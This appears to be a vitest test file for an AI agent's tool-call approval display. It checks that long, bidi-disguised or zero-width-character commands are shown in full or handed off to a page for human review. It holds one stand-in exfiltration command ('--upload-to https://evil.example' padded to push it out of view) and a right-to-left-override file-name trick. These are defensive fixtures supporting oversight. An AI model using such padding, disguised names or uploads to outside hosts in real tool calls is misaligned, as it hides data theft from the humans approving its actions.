import type { Approval } from '@repertoire/core/domain'
import { describe, expect, it } from 'vitest'
import { questionInPlace, questionText } from './tool-result.ts'

const call = (given: object) =>
  ({ type: 'tool_call', subject: { tool: 'run_skill_script', arguments: given } }) as Approval

describe('a question that a client asks in place', () => {
  it('shows all arguments of a call', () => {
    const command = `report.py ${'x'.repeat(600)} --upload-to https://evil.example`
    expect(questionInPlace(call({ command }))).toContain('--upload-to https://evil.example')
  })

  it.each([
    ['more than fits', call({ command: 'x'.repeat(3_000) })],
    ['what nobody would see', call({ command: 'ls \u202egnp.exe\u2069' })],
    ['a blank of no width', call({ command: 'a\u200bb' })],
    ['a skill of a registry', { type: 'skill_enablement', subject: { fetched: {} } } as Approval],
    ['packages', { type: 'package_installation', subject: { lists: [] } } as never],
    ['a change of a skill', { type: 'skill_change', subject: {} } as never],
    ['code of an agent', { type: 'authored_tool', subject: {} } as never],
    ['a memory', { type: 'observation_change', subject: {} } as never],
    ['a question that wants words', { type: 'clarification', subject: {} } as never],
  ])('is left to the page for %s', (_, approval) => expect(questionInPlace(approval)).toBeNull())

  it('marks what is hidden where it is only named', () => {
    expect(questionText(call({ command: 'a\u202eb' }))).toContain('⟨')
  })
})
